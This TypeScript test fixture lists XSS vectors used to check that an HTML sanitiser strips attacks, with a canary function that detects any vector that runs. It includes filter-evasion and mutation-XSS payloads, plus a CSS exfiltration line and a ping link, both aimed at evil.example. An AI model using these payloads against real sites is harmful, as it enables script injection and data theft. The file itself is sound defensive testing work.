/**
 * XSS vectors for the untrusted-HTML tests (tests/unit/ui/safe-html.test.tsx in jsdom,
 * tests/e2e/untrusted-html.spec.ts in Chromium). Every vector that manages to run calls the
 * canary `window.__xss('<id>')` (or sets `window.__pwned`), so a test installs the canary and
 * checks it was never called. `wrapVector` puts harmless marker text in front of each vector:
 * the marker must still show after sanitising (sanitising removes the attack, not the content).
 *
 * Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, cure53's
 * DOMPurify mutation-XSS regressions and the HTML5 security cheat sheet (html5sec.org).
 */
export interface XssVector {
  readonly id: string;
  readonly html: string;
}

const call = (id: string) => `__xss('${id}')`;
/** The same call without quotes or parentheses, for contexts where those are filtered or encoded. */
const js = (id: string) => `javascript:${call(id)}`;
const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

const vectors: Array<[string, (id: string) => string]> = [
  // script elements
  ['script-plain', (id) => `<script>${call(id)}</script>`],
  ['script-src-data', (id) => `<script src="data:text/javascript,${call(id)}"></script>`],
  ['script-uppercase', (id) => `<SCRIPT>${call(id)}</SCRIPT>`],
  ['script-split', (id) => `<scr<script>ipt>${call(id)}</scr</script>ipt>`],
  ['script-in-attr-break', (id) => `<a title="</a><script>${call(id)}</script>">x</a>`],
  ['script-svg', (id) => `<svg><script>${call(id)}</script></svg>`],
  ['script-svg-href', (id) => `<svg><script href="data:text/javascript,${call(id)}"></script></svg>`],
  // event handlers
  ['img-onerror', (id) => `<img src=x onerror="${call(id)}">`],
  ['img-onerror-noquote', (id) => `<img src=x onerror=${call(id)}>`],
  ['img-onerror-slash', (id) => `<img/src=x/onerror=${call(id)}>`],
  ['img-onerror-entity', (id) => `<img src=x onerror="&#95;&#95;xss('${id}')">`],
  ['body-onload', (id) => `<body onload="${call(id)}">`],
  ['svg-onload', (id) => `<svg onload="${call(id)}"></svg>`],
  ['svg-animate-onbegin', (id) => `<svg><animate onbegin="${call(id)}" attributeName="x" dur="1s"></animate></svg>`],
  ['details-ontoggle', (id) => `<details open ontoggle="${call(id)}"><summary>s</summary></details>`],
  ['input-autofocus', (id) => `<input autofocus onfocus="${call(id)}">`],
  ['div-onmouseover', (id) => `<div onmouseover="${call(id)}" style="position:fixed;inset:0">hover</div>`],
  ['video-source-onerror', (id) => `<video><source onerror="${call(id)}"></video>`],
  ['audio-onerror', (id) => `<audio src=x onerror="${call(id)}"></audio>`],
  ['marquee-onstart', (id) => `<marquee onstart="${call(id)}">m</marquee>`],
  ['style-onload', (id) => `<style onload="${call(id)}"></style>`],
  ['object-onerror', (id) => `<object data=x onerror="${call(id)}"></object>`],
  ['popover-onbeforetoggle', (id) => `<button popovertarget=p>b</button><div popover id=p onbeforetoggle="${call(id)}">p</div>`],
  ['contenteditable-onfocus', (id) => `<p contenteditable autofocus onfocus="${call(id)}">e</p>`],
  // javascript: and data: URLs
  ['a-javascript', (id) => `<a href="${js(id)}">link</a>`],
  ['a-javascript-case', (id) => `<a href="JaVaScRiPt:${call(id)}">link</a>`],
  ['a-javascript-tab', (id) => `<a href="jav\tascript:${call(id)}">link</a>`],
  ['a-javascript-entity', (id) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${call(id)}">link</a>`],
  ['a-javascript-hex-entity', (id) => `<a href="&#x6A;avascript&#x3A;${call(id)}">link</a>`],
  ['a-javascript-leading-space', (id) => `<a href=" &#14;  javascript:${call(id)}">link</a>`],
  ['a-javascript-newline-entity', (id) => `<a href="java&NewLine;script&colon;${call(id)}">link</a>`],
  ['a-data-html', (id) => `<a href="data:text/html,<script>${call(id)}</script>">link</a>`],
  ['a-data-html-base64', (id) => `<a href="data:text/html;base64,${b64(`<script>${call(id)}</script>`)}">link</a>`],
  ['area-javascript', (id) => `<map name=m><area shape=rect coords=0,0,10,10 href="${js(id)}"></map>`],
  ['img-src-javascript', (id) => `<img src="${js(id)}">`],
  ['img-data-svg', (id) => `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call(id)}"/>`)}">`],
  ['svg-a-xlink', (id) => `<svg><a xlink:href="${js(id)}"><text y="20">x</text></a></svg>`],
  ['math-href', (id) => `<math><mtext><a href="${js(id)}">m</a></mtext></math>`],
  ['math-maction', (id) => `<math><maction actiontype="statusline" xlink:href="${js(id)}">m</maction></math>`],
  // frames, objects, embeds
  ['iframe-src', (id) => `<iframe src="${js(id)}"></iframe>`],
  ['iframe-srcdoc', (id) => `<iframe srcdoc="&lt;script&gt;parent.${call(id)}&lt;/script&gt;"></iframe>`],
  ['iframe-data', (id) => `<iframe src="data:text/html,<script>parent.${call(id)}</script>"></iframe>`],
  ['object-data', (id) => `<object data="${js(id)}"></object>`],
  ['embed-src', (id) => `<embed src="data:text/html;base64,${b64(`<script>parent.${call(id)}</script>`)}">`],
  ['frameset', (id) => `<frameset onload="${call(id)}"><frame src="${js(id)}"></frameset>`],
  // forms
  ['form-action', (id) => `<form action="${js(id)}"><button>go</button></form>`],
  ['button-formaction', (id) => `<form><button formaction="${js(id)}">go</button></form>`],
  ['input-image-formaction', (id) => `<form><input type=image src=x formaction="${js(id)}" onerror="${call(id)}"></form>`],
  ['isindex', (id) => `<isindex type=image src=1 onerror="${call(id)}">`],
  // meta, base, link
  ['meta-refresh', (id) => `<meta http-equiv="refresh" content="0;url=${js(id)}">`],
  ['meta-refresh-data', (id) => `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64(`<script>${call(id)}</script>`)}">`],
  ['base-href', (id) => `<base href="${js(id)}//"><a href="/x">x</a>`],
  ['link-import', (id) => `<link rel="import" href="data:text/html,<script>${call(id)}</script>">`],
  ['link-stylesheet', (id) => `<link rel="stylesheet" href="${js(id)}">`],
  // CSS
  ['style-expression', (id) => `<div style="width: expression(${call(id)})">css</div>`],
  ['style-url-javascript', (id) => `<div style="background:url('${js(id)}')">css</div>`],
  ['style-element-import', (id) => `<style>@import '${js(id)}';</style>`],
  ['style-element-behaviour', (id) => `<style>body{behavior:url(x.htc);-moz-binding:url("data:text/xml,${call(id)}")}</style>`],
  ['style-exfiltration', () => `<style>input[value^=a]{background:url(https://evil.example/a)}</style>`],
  // mutation XSS (namespace confusion, parser differentials)
  ['mxss-noscript', (id) => `<noscript><p title="</noscript><img src=x onerror=${call(id)}>"></noscript>`],
  ['mxss-svg-style', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${call(id)}>">`],
  ['mxss-math-mglyph', (id) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${call(id)}&gt;">`],
  ['mxss-form-math', (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call(id)}>`],
  ['mxss-svg-foreignobject', (id) => `<svg><foreignobject><p><style><img src=x onerror=${call(id)}></style></p></foreignobject></svg>`],
  ['mxss-template', (id) => `<template><img src=x onerror=${call(id)}></template>`],
  ['mxss-textarea', (id) => `<textarea></textarea><img src=x onerror=${call(id)}></textarea>`],
  ['mxss-xmp', (id) => `<xmp><p title="</xmp><img src=x onerror=${call(id)}>"></xmp>`],
  ['mxss-comment', (id) => `<!--<img src="--><img src=x onerror=${call(id)}//">`],
  ['mxss-cdata', (id) => `<svg><![CDATA[><img src=x onerror=${call(id)}>]]></svg>`],
  ['mxss-backtick', (id) => `<img src="\`" alt="\`><img src=x onerror=${call(id)}>\`">`],
  // DOM clobbering and misc
  ['clobber-pwned', () => `<img name="__pwned" src="x"><a id="__pwned" href="#">c</a>`],
  ['clobber-xss', () => `<form name="__xss"></form><img id="__xss">`],
  ['custom-element-is', (id) => `<div is="x-evil" onclick="${call(id)}">c</div>`],
  ['use-external', (id) => `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="${call(id)}"/></svg>`)}#x"/></svg>`],
  ['srcset-javascript', (id) => `<img srcset="${js(id)} 1x">`],
  ['a-ping', () => `<a href="https://example.com/" ping="https://evil.example/track">ping</a>`],
  ['target-name', () => `<a href="/x" target="__pwned">t</a>`],
];

export const XSS_VECTORS: readonly XssVector[] = vectors.map(([id, html]) => ({ id, html: html(id) }));

/**
 * The vectors that carry an inline event handler or a `style` attribute: the class a browser weighs
 * against the Content-Security-Policy as soon as any parser sets those attributes, even in an inert
 * document, reporting `script-src-attr` / `style-src-attr` violations. Tests that watch
 * for violations render these.
 */
export const INLINE_ATTRIBUTE_VECTORS: readonly XssVector[] = XSS_VECTORS.filter((vector) => /[\s/"']on[a-z]+\s*=|\sstyle\s*=/i.test(vector.html));

/** Marker text placed before a vector; it must survive sanitising. */
export const markerOf = (id: string): string => `Texto seguro ${id}`;

/** One vector with its harmless marker in front (a paragraph of its own). */
export const wrapVector = (vector: XssVector): string => `<p>${markerOf(vector.id)}</p>${vector.html}`;

/** Plain-text fields (nicknames, game names, notice titles) show this literally. */
export const PLAIN_TEXT_PROBE = `<img src=x onerror="__xss('plain-text')">`;
